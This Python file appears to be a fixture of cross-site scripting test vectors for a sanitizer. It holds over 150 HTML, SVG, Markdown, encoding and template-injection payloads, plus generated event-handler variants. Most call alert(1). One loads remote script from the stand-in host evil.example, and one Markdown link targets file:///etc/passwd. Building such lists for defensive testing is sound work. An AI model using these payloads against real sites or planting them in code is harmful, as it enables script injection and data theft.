"""What people with bad intentions type into fields: more than 150 ways to run `alert` on a page."""

BASE = r"""
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example/x.js></script>
<script>alert(1)//
<script/x>alert(1)</script>
<script	>alert(1)</script	>
<<script>alert(1);//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</script><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
'"><svg/onload=alert(1)>
" autofocus onfocus=alert(1) x="
' autofocus onfocus=alert(1) x='
" onmouseover="alert(1)
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<base href="javascript:alert(1)//">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=javascript:alert(1)>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<style>@import 'javascript:alert(1)';</style>
<style>*{background:url(javascript:alert(1))}</style>
<div style="width:expression(alert(1))">x</div>
<div style="background:url(javascript:alert(1))">x</div>
<form action=javascript:alert(1)><button>x</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<isindex action=javascript:alert(1) type=submit>
<input type=image src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#javascript:alert(1)">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=alert(1)&gt;">
<svg><script>alert(1)</script></svg>
<svg><script xlink:href=data:,alert(1)></script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><foreignObject><script>alert(1)</script></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x">
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<plaintext><script>alert(1)</script>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><script>alert(1)</script>-->
<? echo '<script>alert(1)</script>' ?>
<![CDATA[<script>alert(1)</script>]]>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<a href="javas&#99;ript:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:alert(1)">x</a>
<a target=_blank href="https://evil.example">x</a>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](java&Tab;script:alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6a;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](\javascript:alert(1))
[x](vbscript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:text/html,<script>alert(1)</script>)
[x](file:///etc/passwd)
[x](//evil.example/%22onmouseover=alert(1))
[x](https://evil.example "\" onmouseover=alert(1) x=\"")
[x](https://evil.example '"><script>alert(1)</script>')
[<script>alert(1)</script>](https://evil.example)
[![x](x "onerror=alert(1)")](javascript:alert(1))
![x](javascript:alert(1))
![x](https://evil.example/"onerror="alert(1))
![x"onerror="alert(1)](x)
![](x){onerror=alert(1)}
<javascript:alert(1)>
<https://evil.example/"onclick='alert(1)'>
[x]: javascript:alert(1)
`</code><script>alert(1)</script>`
```<script>alert(1)</script>```
# <script>alert(1)</script>
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>
1. <svg onload=alert(1)>
**<b onclick=alert(1)>x</b>**
| <script>alert(1)</script> | x |
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
\<script>alert(1)\</script>
{{ '<script>alert(1)</script>' }}
{% autoescape off %}<script>alert(1)</script>{% endautoescape %}
${alert(1)}
#{alert(1)}
{{constructor.constructor('alert(1)')()}}
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
<mark>x</mark><script>alert(1)</script>
</mark><img src=x onerror=alert(1)>
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
""".strip("\n").split("\n")
TAGS = [
    *("img src=x", "svg", "body", "video", "audio src=x", "details open", "input autofocus"),
    *("select autofocus", "textarea autofocus", "marquee", "iframe", "object", "embed src=x"),
    *("p", "div tabindex=0", "b", "a href=#", "table", "custom-element tabindex=0", "form"),
]
HANDLERS = ["onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationend"]
EVENTS = [
    f"<{tag} {HANDLERS[n % len(HANDLERS)]}{'=' if n % 2 else ' = '}alert(1)>x"
    for n, tag in enumerate([*TAGS, *reversed(TAGS)])
]
VECTORS = [*BASE, *EVENTS]
